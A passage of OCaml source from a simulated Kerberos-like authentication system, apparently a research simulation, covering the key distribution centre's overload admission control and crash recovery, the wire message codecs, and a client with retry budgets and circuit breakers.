            (("src", src) :: ("outcome", outcome) :: attrs);
        if outcome = "replay-detected" then begin
          Telemetry.Opsview.record_replay (Telemetry.Collector.ops tel)
            ~component:("kdc." ^ t.realm);
          Telemetry.Metrics.incr t.c_replay_hits
        end;
        Telemetry.Collector.span_finish tel ~outcome span
      in
      (* Admission: with no configuration, [run] executes inline — the
         pre-overload-plane behaviour, bit for bit. With one, the request
         joins its priority class's share of the bounded queue or is shed
         with KRB_ERR_BUSY + retry-after; brownout additionally sheds
         expensive work (cross-realm chases, preauth-heavy logins) while
         the queue is merely deep, keeping cheap renewals alive. Every
         shed is counted and answered (busy) or counted and traced
         (deadline) — never silent. *)
      let admit ~cls ~expensive ~deadline ~attrs ~run =
        match t.admission with
        | None -> run ()
        | Some ad ->
            Telemetry.Metrics.incr t.c_ov_arrived;
            (* [classes = false] collapses the scheduler to one FIFO class
               — the pre-priority KDC whose queue treats a login storm and
               a calm renewal identically. The overload experiment's naive
               arm runs this way. *)
            let cls = if ad.classes then cls else `Norm in
            let depth = admission_queue_depth t in
            let shed c hint_depth =
              Telemetry.Metrics.incr c;
              reply
                (err Messages.err_busy
                   (Messages.busy_text ~retry_after:(retry_hint t ~depth:hint_depth)))
            in
            if expensive && ad.brownout_at > 0 && depth >= ad.brownout_at then
              shed t.c_ov_brownout ad.brownout_at
            else begin
              let threshold =
                if not ad.classes then ad.queue_limit
                else
                  match cls with
                  | `High -> ad.queue_limit
                  | `Norm -> ad.queue_limit * 3 / 4
                  | `Low -> ad.queue_limit / 4
              in
              if depth >= threshold then shed t.c_ov_busy depth
              else begin
                let q =
                  match cls with
                  | `High -> t.aq_high
                  | `Norm -> t.aq_norm
                  | `Low -> t.aq_low
                in
                Queue.push { pq_deadline = deadline; pq_attrs = attrs; pq_run = run } q;
                if not t.aq_draining then begin
                  t.aq_draining <- true;
                  aq_drain t net
                end
              end
            end
      in
      match Wire.Encoding.decode_result t.profile.Profile.encoding payload with
      | Error e -> reply (err Messages.err_generic e)
      | Ok v -> (
          match Messages.split_deadline v with
          | exception Wire.Codec.Decode_error e -> reply (err Messages.err_generic e)
          | deadline, v -> (
              let suspect =
                note_arrival t ~now:(Sim.Engine.now (Sim.Net.engine net)) src_addr
              in
              (* Try AS first, then TGS; under Der the tag disambiguates,
                 under V4 the structural parse does. *)
              match Messages.as_req_of_value v with
              | q ->
                  let attrs =
                    [ ("client", Principal.to_string q.Messages.q_client) ]
                  in
                  (* Preauth-heavy logins are the AS path's expensive work:
                     a preauth decrypt or a DH exponentiation per request. *)
                  let expensive =
                    List.exists
                      (function
                        | Messages.Pa_preauth _ | Messages.Pa_dh _ -> true
                        | Messages.Pa_handheld -> false)
                      q.Messages.q_padata
                  in
                  admit
                    ~cls:(if suspect then `Low else `Norm)
                    ~expensive ~deadline
                    ~attrs:(("kind", "as_req") :: ("src", src) :: attrs)
                    ~run:(fun () ->
                      traced "kdc.as_req" ~attrs (fun () ->
                          handle_as t net host q ~src_addr))
              | exception Wire.Codec.Decode_error _ -> (
                  match Messages.tgs_req_of_value v with
                  | req ->
                      let attrs =
                        [ ("server", Principal.to_string req.Messages.t_server) ]
                      in
                      (* A TGS request proves the sender once held a TGT:
                         renewals ride the high class (unless the source is
                         suspect). Cross-realm chases are the expensive
                         work brownout sheds first. *)
                      let expensive =
                        req.Messages.t_server.Principal.realm <> t.realm
                      in
                      admit
                        ~cls:(if suspect then `Low else `High)
                        ~expensive ~deadline
                        ~attrs:(("kind", "tgs_req") :: ("src", src) :: attrs)
                        ~run:(fun () ->
                          traced "kdc.tgs_req" ~attrs (fun () ->
                              handle_tgs t net host req ~src_addr))
                  | exception Wire.Codec.Decode_error e ->
                      reply (err Messages.err_generic e)))))
  in
  t.endpoint <- Some endpoint

let install net host t ?(port = default_port) () =
  t.installed <- Some (net, host, port);
  t.running <- true;
  serve t net host port

let running t = t.running
let last_recovery t = t.last_recovery
let recoveries t = Telemetry.Metrics.value t.c_recoveries

(* A crash loses everything in memory: the principal database, the TGS
   replay cache, the rate tables, the port. What survives is the disk
   image the durability plane maintained — checkpoint plus WAL, captured
   here exactly as the instant of death left them (the WAL may well end
   mid-mutation; recovery's CRC framing deals with that). Without
   {!enable_durability} there is no disk and a restart comes back empty —
   the pre-PR behaviour, now opt-out instead of inevitable. *)
let crash t =
  match t.installed with
  | Some (net, host, _port) when t.running ->
      t.running <- false;
      (match t.endpoint with
      | Some ep -> Sim.Transport.shutdown ep
      | None -> ());
      t.endpoint <- None;
      t.disk <-
        Option.map
          (fun (dk_checkpoint, dk_wal) ->
            { dk_checkpoint; dk_wal;
              dk_replay = Replay_cache.to_bytes t.tgs_cache })
          (Kdb.disk_image t.db);
      Kdb.wipe t.db;
      t.tgs_cache <-
        Replay_cache.create ?cap:t.replay_cap
          ~on_evict:(fun () -> Telemetry.Metrics.incr t.c_replay_evicted)
          ~horizon:tgs_cache_horizon ();
      Hashtbl.reset t.rate_table;
      Hashtbl.reset t.suspect_table;
      (* Queued work dies with the process; the clients' retry machinery
         is what carries those requests across the crash. *)
      Queue.clear t.aq_high;
      Queue.clear t.aq_norm;
      Queue.clear t.aq_low;
      t.aq_busy_until <- 0.0;
      t.aq_draining <- false;
      Sim.Net.note net
        (Printf.sprintf "%s: KDC for realm %s crashed%s" host.Sim.Host.name
           t.realm
           (if t.disk = None then " (no durable state: database lost)" else ""))
  | _ -> ()

let restart t =
  match t.installed with
  | Some (net, host, port) when not t.running ->
      (match t.disk with
      | Some d ->
          let r = Kdb.recover ~checkpoint:d.dk_checkpoint ~wal:d.dk_wal in
          Kdb.restore t.db r;
          (match t.durability_every with
          | Some every -> Kdb.enable_durability ~checkpoint_every:every t.db
          | None -> ());
          let now = Sim.Net.local_time net host in
          let cache =
            Replay_cache.of_bytes ~now
              ~on_evict:(fun () -> Telemetry.Metrics.incr t.c_replay_evicted)
              d.dk_replay
          in
          t.tgs_cache <- cache;
          t.last_recovery <-
            Some
              { wal_applied = r.Kdb.applied;
                wal_skipped = r.Kdb.skipped;
                wal_discarded_bytes = r.Kdb.discarded_bytes;
                replay_entries = Replay_cache.size cache };
          Telemetry.Metrics.incr t.c_recoveries;
          Sim.Net.note net
            (Printf.sprintf
               "%s: KDC for realm %s recovered (checkpoint + %d WAL records, \
                %d stale bytes dropped, %d replay entries live)"
               host.Sim.Host.name t.realm r.Kdb.applied r.Kdb.discarded_bytes
               (Replay_cache.size cache))
      | None ->
          Sim.Net.note net
            (Printf.sprintf "%s: KDC for realm %s restarted cold (empty database)"
               host.Sim.Host.name t.realm));
      t.disk <- None;
      t.running <- true;
      serve t net host port
  | _ -> ()
