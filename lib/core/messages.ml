open Wire.Encoding

let tag_ticket = 1
let tag_authenticator = 2
let tag_as_req = 3
let tag_as_rep = 4
let tag_as_rep_body = 5
let tag_tgs_req = 6
let tag_tgs_rep = 7
let tag_rep_body = 8
let tag_ap_req = 9
let tag_ap_rep = 10
let tag_ap_rep_body = 11
let tag_challenge = 12
let tag_challenge_resp = 13
let tag_safe = 14
let tag_err = 15
let tag_preauth = 16
let tag_keystore = 17
let tag_deadline = 18

type ticket = {
  server : Principal.t;
  client : Principal.t;
  addr : Sim.Addr.t option;
  issued_at : float;
  lifetime : float;
  session_key : bytes;
  forwarded : bool;
  dup_skey : bool;
  transited : string list;
}

type authenticator = {
  a_client : Principal.t;
  a_addr : Sim.Addr.t;
  a_timestamp : float;
  a_req_cksum : bytes option;
  a_ticket_cksum : bytes option;
  a_service : Principal.t option;
  a_seq_init : int option;
  a_subkey_part : bytes option;
}

type kdc_options = { enc_tkt_in_skey : bool; reuse_skey : bool; forward : bool }

let no_options = { enc_tkt_in_skey = false; reuse_skey = false; forward = false }

type padata = Pa_preauth of bytes | Pa_dh of bytes | Pa_handheld

type as_req = {
  q_client : Principal.t;
  q_server : Principal.t;
  q_nonce : int64;
  q_addr : Sim.Addr.t;
  q_padata : padata list;
}

type as_rep = {
  p_challenge : bytes option;
  p_dh_public : bytes option;
  p_ticket : bytes option;
  p_sealed : bytes;
}

type rep_body = {
  b_session_key : bytes;
  b_nonce : int64;
  b_server : Principal.t;
  b_issued_at : float;
  b_lifetime : float;
  b_ticket : bytes;
}

type tgs_req = {
  t_ap : ap_req;
  t_server : Principal.t;
  t_nonce : int64;
  t_options : kdc_options;
  t_additional_ticket : bytes option;
  t_authz_data : bytes;
}

and ap_req = { r_ticket : bytes; r_authenticator : bytes; r_mutual : bool }

type ap_rep_body = {
  ar_timestamp : float;
  ar_subkey_part : bytes option;
  ar_seq_init : int option;
}

type challenge = { c_nonce : int64; c_server_part : bytes option; c_seq_init : int option }

type challenge_resp = {
  cr_nonce_f : int64;
  cr_client_part : bytes option;
  cr_seq_init : int option;
}

type safe_msg = { s_data : bytes; s_stamp : stamp; s_cksum : bytes }
and stamp = At of float | Seq of int

type krb_err = { e_code : int; e_text : string }

let err_principal_unknown = 1
let err_preauth_required = 2
let err_preauth_failed = 3
let err_ticket_expired = 4
let err_skew = 5
let err_replay = 6
let err_badaddr = 7
let err_bad_integrity = 8
let err_option_forbidden = 9
let err_policy = 10
let err_transit = 11
let err_generic = 12
let err_response_too_big = 13
let err_busy = 14

(* The BUSY refusal carries its retry-after hint inside the error text:
   the wire error record is just (code, text) and every decoder in the
   tree already knows how to carry that pair, so overloaded servers can
   shed with a hint without a codec change. *)
let busy_text ~retry_after = Printf.sprintf "server busy; retry-after=%.3f" retry_after

let retry_after_of_text s =
  let marker = "retry-after=" in
  let mlen = String.length marker in
  let n = String.length s in
  let digit c = (c >= '0' && c <= '9') || c = '.' in
  let rec find i =
    if i + mlen > n then None
    else if String.sub s i mlen = marker then begin
      let j = ref (i + mlen) in
      while !j < n && digit s.[!j] do incr j done;
      float_of_string_opt (String.sub s (i + mlen) (!j - (i + mlen)))
    end
    else find (i + 1)
  in
  find 0

(* ------------------------------------------------------------------ *)
(* Small building blocks                                               *)
(* ------------------------------------------------------------------ *)

let float_to_int64 = Int64.bits_of_float
let int64_to_float = Int64.float_of_bits

let vfloat f = Int (float_to_int64 f)
let gfloat v = int64_to_float (get_int v)
let vbool b = Int (if b then 1L else 0L)
let gbool v = get_int v <> 0L

let vopt f = function None -> List [] | Some x -> List [ f x ]

let gopt f v =
  match get_list v with
  | [] -> None
  | [ x ] -> Some (f x)
  | _ -> Wire.Codec.fail "option: wrong arity"

let vint i = Int (Int64.of_int i)
let gint v = Int64.to_int (get_int v)

(* ------------------------------------------------------------------ *)
(* Tickets                                                             *)
(* ------------------------------------------------------------------ *)

let ticket_to_value t =
  Tagged
    ( tag_ticket,
      List
        [ Principal.to_value t.server; Principal.to_value t.client;
          vopt (fun a -> vint a) t.addr; vfloat t.issued_at; vfloat t.lifetime;
          Raw t.session_key; vbool t.forwarded; vbool t.dup_skey;
          List (List.map (fun r -> Str r) t.transited) ] )

let ticket_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_ticket -> inner | Tagged _ -> Wire.Codec.fail "not a ticket" | v -> v in
  match get_list v with
  | [ srv; cl; addr; issued; life; key; fwd; dup; trans ] ->
      { server = Principal.of_value srv; client = Principal.of_value cl;
        addr = gopt gint addr; issued_at = gfloat issued; lifetime = gfloat life;
        session_key = get_raw key; forwarded = gbool fwd; dup_skey = gbool dup;
        transited = List.map get_str (get_list trans) }
  | _ -> Wire.Codec.fail "ticket: wrong arity"

(* ------------------------------------------------------------------ *)
(* Authenticators                                                      *)
(* ------------------------------------------------------------------ *)

let authenticator_to_value a =
  Tagged
    ( tag_authenticator,
      List
        [ Principal.to_value a.a_client; vint a.a_addr; vfloat a.a_timestamp;
          vopt (fun b -> Raw b) a.a_req_cksum; vopt (fun b -> Raw b) a.a_ticket_cksum;
          vopt Principal.to_value a.a_service; vopt vint a.a_seq_init;
          vopt (fun b -> Raw b) a.a_subkey_part ] )

let authenticator_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_authenticator -> inner | Tagged _ -> Wire.Codec.fail "not an authenticator" | v -> v in
  match get_list v with
  | [ cl; addr; ts; rc; tc; svc; seq; sub ] ->
      { a_client = Principal.of_value cl; a_addr = gint addr; a_timestamp = gfloat ts;
        a_req_cksum = gopt get_raw rc; a_ticket_cksum = gopt get_raw tc;
        a_service = gopt Principal.of_value svc; a_seq_init = gopt gint seq;
        a_subkey_part = gopt get_raw sub }
  | _ -> Wire.Codec.fail "authenticator: wrong arity"

(* ------------------------------------------------------------------ *)
(* AS exchange                                                         *)
(* ------------------------------------------------------------------ *)

let padata_to_value pa =
  let one = function
    | Pa_preauth b -> List [ vint 1; Raw b ]
    | Pa_dh b -> List [ vint 2; Raw b ]
    | Pa_handheld -> List [ vint 3 ]
  in
  List (List.map one pa)

let padata_of_value v =
  let one v =
    match get_list v with
    | [ k; b ] when gint k = 1 -> Pa_preauth (get_raw b)
    | [ k; b ] when gint k = 2 -> Pa_dh (get_raw b)
    | [ k ] when gint k = 3 -> Pa_handheld
    | _ -> Wire.Codec.fail "padata"
  in
  List.map one (get_list v)

let as_req_to_value q =
  Tagged
    ( tag_as_req,
      List
        [ Principal.to_value q.q_client; Principal.to_value q.q_server;
          Int q.q_nonce; vint q.q_addr; padata_to_value q.q_padata ] )

let as_req_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_as_req -> inner | Tagged _ -> Wire.Codec.fail "not an as_req" | v -> v in
  match get_list v with
  | [ cl; srv; n; addr; pa ] ->
      { q_client = Principal.of_value cl; q_server = Principal.of_value srv;
        q_nonce = get_int n; q_addr = gint addr; q_padata = padata_of_value pa }
  | _ -> Wire.Codec.fail "as_req: wrong arity"

let as_rep_to_value p =
  Tagged
    ( tag_as_rep,
      List
        [ vopt (fun b -> Raw b) p.p_challenge; vopt (fun b -> Raw b) p.p_dh_public;
          vopt (fun b -> Raw b) p.p_ticket; Raw p.p_sealed ] )

let as_rep_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_as_rep -> inner | Tagged _ -> Wire.Codec.fail "not an as_rep" | v -> v in
  match get_list v with
  | [ ch; dh; tkt; sealed ] ->
      { p_challenge = gopt get_raw ch; p_dh_public = gopt get_raw dh;
        p_ticket = gopt get_raw tkt; p_sealed = get_raw sealed }
  | _ -> Wire.Codec.fail "as_rep: wrong arity"

let rep_body_to_value ~tag b =
  Tagged
    ( tag,
      List
        [ Raw b.b_session_key; Int b.b_nonce; Principal.to_value b.b_server;
          vfloat b.b_issued_at; vfloat b.b_lifetime; Raw b.b_ticket ] )

let rep_body_of_value ~tag kind v =
  let v = Wire.Encoding.expect_tag kind tag v in
  match get_list v with
  | [ key; n; srv; issued; life; tkt ] ->
      { b_session_key = get_raw key; b_nonce = get_int n;
        b_server = Principal.of_value srv; b_issued_at = gfloat issued;
        b_lifetime = gfloat life; b_ticket = get_raw tkt }
  | _ -> Wire.Codec.fail "rep_body: wrong arity"

(* ------------------------------------------------------------------ *)
(* AP / TGS                                                            *)
(* ------------------------------------------------------------------ *)

let ap_req_to_value r =
  Tagged
    (tag_ap_req, List [ Raw r.r_ticket; Raw r.r_authenticator; vbool r.r_mutual ])

let ap_req_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_ap_req -> inner | Tagged _ -> Wire.Codec.fail "not an ap_req" | v -> v in
  match get_list v with
  | [ tkt; auth; m ] ->
      { r_ticket = get_raw tkt; r_authenticator = get_raw auth; r_mutual = gbool m }
  | _ -> Wire.Codec.fail "ap_req: wrong arity"

let options_to_value o =
  List [ vbool o.enc_tkt_in_skey; vbool o.reuse_skey; vbool o.forward ]

let options_of_value v =
  match get_list v with
  | [ a; b; c ] -> { enc_tkt_in_skey = gbool a; reuse_skey = gbool b; forward = gbool c }
  | _ -> Wire.Codec.fail "options: wrong arity"

let tgs_req_to_value t =
  Tagged
    ( tag_tgs_req,
      List
        [ ap_req_to_value t.t_ap; Principal.to_value t.t_server; Int t.t_nonce;
          options_to_value t.t_options; vopt (fun b -> Raw b) t.t_additional_ticket;
          Raw t.t_authz_data ] )

let tgs_req_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_tgs_req -> inner | Tagged _ -> Wire.Codec.fail "not a tgs_req" | v -> v in
  match get_list v with
  | [ ap; srv; n; opts; add; authz ] ->
      { t_ap = ap_req_of_value ap; t_server = Principal.of_value srv;
        t_nonce = get_int n; t_options = options_of_value opts;
        t_additional_ticket = gopt get_raw add; t_authz_data = get_raw authz }
  | _ -> Wire.Codec.fail "tgs_req: wrong arity"

let tgs_req_cleartext_fields t =
  (* The authorization data comes last so that a 4-byte CRC filler appended
     to it is also the last thing the checksum sees. *)
  let w = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.lstring w (Principal.to_string t.t_server);
  Wire.Codec.Writer.i64 w t.t_nonce;
  Wire.Codec.Writer.u8 w (if t.t_options.enc_tkt_in_skey then 1 else 0);
  Wire.Codec.Writer.u8 w (if t.t_options.reuse_skey then 1 else 0);
  Wire.Codec.Writer.u8 w (if t.t_options.forward then 1 else 0);
  (match t.t_additional_ticket with
  | None -> Wire.Codec.Writer.u8 w 0
  | Some b ->
      Wire.Codec.Writer.u8 w 1;
      Wire.Codec.Writer.lbytes w b);
  Wire.Codec.Writer.raw w t.t_authz_data;
  Wire.Codec.Writer.contents w

let ap_rep_body_to_value b =
  Tagged
    ( tag_ap_rep_body,
      List [ vfloat b.ar_timestamp; vopt (fun x -> Raw x) b.ar_subkey_part; vopt vint b.ar_seq_init ] )

let ap_rep_body_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_ap_rep_body -> inner | Tagged _ -> Wire.Codec.fail "not an ap_rep_body" | v -> v in
  match get_list v with
  | [ ts; sub; seq ] ->
      { ar_timestamp = gfloat ts; ar_subkey_part = gopt get_raw sub; ar_seq_init = gopt gint seq }
  | _ -> Wire.Codec.fail "ap_rep_body: wrong arity"

let challenge_to_value c =
  Tagged
    ( tag_challenge,
      List [ Int c.c_nonce; vopt (fun x -> Raw x) c.c_server_part; vopt vint c.c_seq_init ] )

let challenge_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_challenge -> inner | Tagged _ -> Wire.Codec.fail "not a challenge" | v -> v in
  match get_list v with
  | [ n; sp; seq ] ->
      { c_nonce = get_int n; c_server_part = gopt get_raw sp; c_seq_init = gopt gint seq }
  | _ -> Wire.Codec.fail "challenge: wrong arity"

let challenge_resp_to_value c =
  Tagged
    ( tag_challenge_resp,
      List [ Int c.cr_nonce_f; vopt (fun x -> Raw x) c.cr_client_part; vopt vint c.cr_seq_init ] )

let challenge_resp_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_challenge_resp -> inner | Tagged _ -> Wire.Codec.fail "not a challenge_resp" | v -> v in
  match get_list v with
  | [ n; cp; seq ] ->
      { cr_nonce_f = get_int n; cr_client_part = gopt get_raw cp; cr_seq_init = gopt gint seq }
  | _ -> Wire.Codec.fail "challenge_resp: wrong arity"

(* Deadline envelope: an optional wrapper a client may put around a KDC
   request so the server can shed it unanswered once the caller has
   stopped waiting. The deadline is absolute simulation time — faithful
   to V4's reliance on synchronized clocks, and subject to exactly the
   skew caveat the paper levels at the timestamp scheme. Requests without
   the envelope decode as before, so the wrapper is pay-as-you-go. *)
let with_deadline ~deadline v = Tagged (tag_deadline, List [ vfloat deadline; v ])

let split_deadline v =
  match v with
  | Tagged (t, inner) when t = tag_deadline -> (
      match get_list inner with
      | [ d; body ] -> (Some (gfloat d), body)
      | _ -> Wire.Codec.fail "deadline envelope: wrong arity")
  | v -> (None, v)

let err_to_value e = Tagged (tag_err, List [ vint e.e_code; Str e.e_text ])

let err_of_value v =
  let v = match v with Tagged (t, inner) when t = tag_err -> inner | Tagged _ -> Wire.Codec.fail "not an error" | v -> v in
  match get_list v with
  | [ code; text ] -> { e_code = gint code; e_text = get_str text }
  | _ -> Wire.Codec.fail "err: wrong arity"

(* ------------------------------------------------------------------ *)
(* Profile-aware envelopes                                             *)
(* ------------------------------------------------------------------ *)

let encode_msg (p : Profile.t) ~tag v =
  let v = match v with Tagged _ -> v | v -> Tagged (tag, v) in
  Wire.Encoding.encode p.encoding v

let decode_msg (p : Profile.t) ~tag b =
  let v = Wire.Encoding.decode p.encoding b in
  match p.encoding with
  | Wire.Encoding.V4_adhoc -> v
  | Wire.Encoding.Der_typed -> (
      match v with
      | Tagged (t, _) when t = tag -> v
      | Tagged (t, _) -> Wire.Codec.fail (Printf.sprintf "message tag %d where %d expected" t tag)
      | _ -> Wire.Codec.fail "untyped message")

let seal_msg (p : Profile.t) rng ~key ~tag v =
  Seal.seal (Seal.of_profile p) rng ~key (encode_msg p ~tag v)

let open_msg (p : Profile.t) ~key ~tag b =
  match Seal.open_ (Seal.of_profile p) ~key b with
  | Error e -> Error e
  | Ok plain -> (
      match decode_msg p ~tag plain with
      | v -> Ok v
      | exception Wire.Codec.Decode_error e -> Error e)
