type credentials = {
  service : Principal.t;
  ticket : bytes;
  session_key : bytes;
  issued_at : float;
  lifetime : float;
}

(* Per-KDC circuit breaker state. Closed: [br_open_until = 0], counting
   consecutive failures. Open: [now < br_open_until], the KDC is skipped
   without sending. Half-open: the cooldown has passed but
   [br_open_until] is still set — one probe request goes through, and a
   single failure re-trips the breaker immediately (no need to count back
   up to the threshold) while a success closes it fully. *)
type breaker = { mutable br_fails : int; mutable br_open_until : float }

type t = {
  net : Sim.Net.t;
  host : Sim.Host.t;
  profile : Profile.t;
  kdcs : (string * Sim.Addr.t) list;
  me : Principal.t;
  rng : Util.Rng.t;
  password : string option;  (** remembered for re-login on TGT expiry *)
  kdc_timeout : float;
  kdc_retries : int;
  ccache : bool;
  kdc_rotation : bool;
  mutable rotation : int;  (** next starting index into the KDC list *)
  svc_creds : (string, credentials) Hashtbl.t;
      (** in-memory view of the /tmp/tkt<uid> service-ticket entries *)
  mutable ccache_hits : int;
  mutable ccache_misses : int;
  mutable degraded : int;
      (** requests served from the wallet because no KDC answered *)
  mutable tgt_creds : credentials option;
  (* Overload hygiene (all off by default — the storm-prone historical
     client). *)
  retry_budget : int option;  (** token-bucket capacity; [None] = unlimited *)
  mutable budget_tokens : float;
  breaker_threshold : int option;  (** consecutive failures before trip *)
  breaker_cooldown : float;
  breakers : (Sim.Addr.t, breaker) Hashtbl.t;
  honor_retry_after : bool;
  kdc_deadline : float option;
      (** overall per-exchange patience, stamped into the request *)
  mutable busy_received : int;
  mutable breaker_trips : int;
  mutable budget_exhausted : int;
}

let create ?(seed = 0x434c49L) ?password ?(kdc_timeout = 1.0) ?(kdc_retries = 0)
    ?(ccache = false) ?(kdc_rotation = false) ?retry_budget ?breaker_threshold
    ?(breaker_cooldown = 5.0) ?(honor_retry_after = false) ?kdc_deadline net
    host ~profile ~kdcs me =
  (match retry_budget with
  | Some b when b < 0 -> invalid_arg "Client.create: negative retry_budget"
  | _ -> ());
  (match breaker_threshold with
  | Some n when n <= 0 ->
      invalid_arg "Client.create: breaker_threshold must be positive"
  | _ -> ());
  if breaker_cooldown < 0.0 then
    invalid_arg "Client.create: negative breaker_cooldown";
  { net; host; profile; kdcs; me; rng = Util.Rng.create seed; password;
    kdc_timeout; kdc_retries; ccache; kdc_rotation; rotation = 0;
    svc_creds = Hashtbl.create 8; ccache_hits = 0; ccache_misses = 0;
    degraded = 0; tgt_creds = None;
    retry_budget;
    budget_tokens =
      (match retry_budget with Some b -> float_of_int b | None -> 0.0);
    breaker_threshold; breaker_cooldown; breakers = Hashtbl.create 4;
    honor_retry_after; kdc_deadline;
    busy_received = 0; breaker_trips = 0; budget_exhausted = 0 }

let principal t = t.me
let host t = t.host
let net t = t.net
let client_profile t = t.profile
let client_rng t = t.rng
let tgt t = t.tgt_creds
let adopt_tgt t creds = t.tgt_creds <- Some creds

let now t = Sim.Net.local_time t.net t.host

(* Every entry for the realm, in configuration order: the first is the
   master, the rest the slaves Project Athena ran "so workstations always
   had a reachable KDC". *)
let kdc_addrs t realm =
  List.filter_map
    (fun (r, a) -> if String.equal r realm then Some a else None)
    t.kdcs

(* Under rotation the same list doubles as a load-balancing schedule:
   each logical request starts one position further along and wraps, so a
   pool of KDCs shares the steady-state load while silence still fails
   over to every other member. *)
let rotated t addrs =
  if not t.kdc_rotation then addrs
  else begin
    let n = List.length addrs in
    let k = if n = 0 then 0 else t.rotation mod n in
    t.rotation <- t.rotation + 1;
    let rec split i acc = function
      | rest when i = k -> rest @ List.rev acc
      | x :: rest -> split (i + 1) (x :: acc) rest
      | [] -> List.rev acc
    in
    split 0 [] addrs
  end

(* How the client's decoder judges a datagram reply from the KDC, for the
   transport's fallback decision: an explicit RESPONSE-TOO-BIG refusal
   switches the exchange to the stream leg, an undecodable blob (e.g. an
   MTU-truncated tail) is a garble; everything else — replies and other
   KDC errors alike — is the caller's to interpret. *)
let classify_kdc_reply t payload =
  match Wire.Encoding.decode_result t.profile.Profile.encoding payload with
  | Error _ -> Sim.Transport.Garbled
  | Ok v -> (
      match Messages.err_of_value v with
      | e when e.Messages.e_code = Messages.err_response_too_big ->
          Sim.Transport.Response_too_big
      | _ -> Sim.Transport.Accept
      | exception Wire.Codec.Decode_error _ -> Sim.Transport.Accept)

(* --- Retry budget: a token bucket spent on retries (failover hops and
   busy-waits), refilled by successes. A client that only ever succeeds
   keeps a full bucket; one that is mostly failing runs dry and stops
   amplifying the storm. The first attempt of an exchange is free — the
   budget bounds *extra* load, not the offered load itself. *)

let budget_take t =
  match t.retry_budget with
  | None -> true
  | Some _ ->
      if t.budget_tokens >= 1.0 then begin
        t.budget_tokens <- t.budget_tokens -. 1.0;
        true
      end
      else begin
        t.budget_exhausted <- t.budget_exhausted + 1;
        false
      end

let budget_refill t =
  match t.retry_budget with
  | None -> ()
  | Some cap ->
      t.budget_tokens <- Float.min (float_of_int cap) (t.budget_tokens +. 1.0)

(* --- Per-KDC circuit breaker. *)

let breaker_for t addr =
  match Hashtbl.find_opt t.breakers addr with
  | Some b -> b
  | None ->
      let b = { br_fails = 0; br_open_until = 0.0 } in
      Hashtbl.add t.breakers addr b;
      b

let breaker_blocks t b =
  match t.breaker_threshold with
  | None -> false
  | Some _ -> now t < b.br_open_until

let breaker_success b =
  b.br_fails <- 0;
  b.br_open_until <- 0.0

let breaker_failure t b =
  match t.breaker_threshold with
  | None -> ()
  | Some threshold ->
      (* A failed half-open probe re-trips without counting back up. *)
      let half_open = b.br_open_until > 0.0 && now t >= b.br_open_until in
      b.br_fails <- b.br_fails + 1;
      if half_open || b.br_fails >= threshold then begin
        b.br_open_until <- now t +. t.breaker_cooldown;
        t.breaker_trips <- t.breaker_trips + 1
      end

(* Decode a KDC datagram just far enough to recognize KRB_ERR_BUSY and
   extract its retry-after hint. *)
let busy_hint_of_reply t reply =
  match Wire.Encoding.decode_result t.profile.Profile.encoding reply with
  | Error _ -> None
  | Ok v -> (
      match Messages.err_of_value v with
      | e when e.Messages.e_code = Messages.err_busy ->
          Some
            (Option.value
               (Messages.retry_after_of_text e.Messages.e_text)
               ~default:(t.kdc_timeout /. 10.0))
      | _ -> None
      | exception Wire.Codec.Decode_error _ -> None)

(* One logical KDC request: try each address in turn (with the client's
   per-address timeout/retry budget, UDP-first with transparent TCP
   fallback) and fail over on silence. Takes the request as a wire value
   so the client's deadline can be stamped into it ({!Messages.with_deadline})
   before encoding — the KDC sheds queued work whose caller already gave up.

   Storm hygiene, all opt-in: a KDC whose circuit breaker is open is
   skipped without sending; every failover hop (and every honored
   retry-after wait) spends a retry-budget token and stops when the
   bucket is dry; a busy answer with [honor_retry_after] waits out the
   KDC's hint instead of hammering on. The errors for "every avenue
   exhausted" all contain "timeout"/"timed out" so the degraded
   cached-ticket fallback still recognizes them. *)
let kdc_call t ~realm v ~on_reply ~on_error =
  match rotated t (kdc_addrs t realm) with
  | [] -> on_error ("no KDC known for realm " ^ realm)
  | first :: rest ->
      let abs_deadline = Option.map (fun d -> now t +. d) t.kdc_deadline in
      let payload =
        let v =
          match abs_deadline with
          | None -> v
          | Some d -> Messages.with_deadline ~deadline:d v
        in
        Wire.Encoding.encode t.profile.Profile.encoding v
      in
      let remaining () = Option.map (fun d -> d -. now t) abs_deadline in
      (* [attempted] distinguishes "every KDC timed out" from "every
         breaker was open and we never sent a byte". *)
      let rec go ~attempted kdc rest =
        match remaining () with
        | Some left when left <= 0.0 ->
            on_error "KDC deadline expired (timed out)"
        | left ->
            let b = breaker_for t kdc in
            if breaker_blocks t b then
              match rest with
              | [] ->
                  on_error
                    (if attempted then "KDC timeout"
                     else "all KDCs circuit-open (timeout)")
              | next :: rest -> go ~attempted next rest
            else
              Sim.Transport.call t.net t.host ~dst:kdc ~dport:Kdc.default_port
                ~timeout:t.kdc_timeout ~retries:t.kdc_retries ?deadline:left
                ~classify:(classify_kdc_reply t) payload
                ~on_reply:(fun reply ->
                  match busy_hint_of_reply t reply with
                  | Some hint ->
                      t.busy_received <- t.busy_received + 1;
                      breaker_failure t b;
                      if t.honor_retry_after && budget_take t then begin
                        Sim.Net.note t.net
                          (Printf.sprintf
                             "%s: KDC %s busy; backing off %.3fs as hinted"
                             t.host.Sim.Host.name (Sim.Addr.to_string kdc) hint);
                        Sim.Engine.schedule_after (Sim.Net.engine t.net) hint
                          (fun () -> go ~attempted:true kdc rest)
                      end
                      else
                        (* Naive (or out of budget): the busy error
                           surfaces to the caller like any KDC error. *)
                        on_reply reply
                  | None ->
                      breaker_success b;
                      budget_refill t;
                      on_reply reply)
                ~on_timeout:(fun () ->
                  breaker_failure t b;
                  match rest with
                  | [] -> on_error "KDC timeout"
                  | next :: rest ->
                      if budget_take t then begin
                        Sim.Net.note t.net
                          (Printf.sprintf
                             "%s: KDC %s unreachable, failing over to %s"
                             t.host.Sim.Host.name (Sim.Addr.to_string kdc)
                             (Sim.Addr.to_string next));
                        go ~attempted:true next rest
                      end
                      else on_error "KDC retry budget exhausted (timed out)")
      in
